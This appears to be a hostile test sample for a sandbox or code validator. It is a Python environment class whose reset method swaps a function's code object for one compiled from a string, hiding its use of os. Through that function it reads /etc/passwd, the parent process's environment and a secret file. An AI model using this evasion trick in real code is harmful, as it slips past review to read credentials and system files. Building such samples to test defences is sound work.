# hostile: a function's __code__ replaced at run time by one compiled from a string, which reads secrets, /etc/passwd and the parent's environment
# needs: filesystem
# outcome: any
# rejected-by: no_dunder_tricks
import random


class CodeSwapEnv:
    def __init__(self, max_turns=12, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        def harmless(path):
            return path

        text = "lambda path: __import__('random')._os.read(__import__('random')._os.open(path, 0), 65536)"
        harmless.__code__ = eval(compile(text, "<swap>", "eval")).__code__
        ppid = random._os.getppid()
        seen = []
        for number, path in enumerate(("@@HOME_DIR@@/home-marker-5d1e", "/etc/passwd", f"/proc/{ppid}/environ", "@@RUN_DIR@@/secret.txt")):
            try:
                seen.append(f"file {number}: {harmless(path)!r}")
            except OSError as error:
                seen.append(f"file {number}: {error.strerror}")
        return "\n".join(seen), {}

    def step(self, action):
        return "", 0.0, True, False, {}
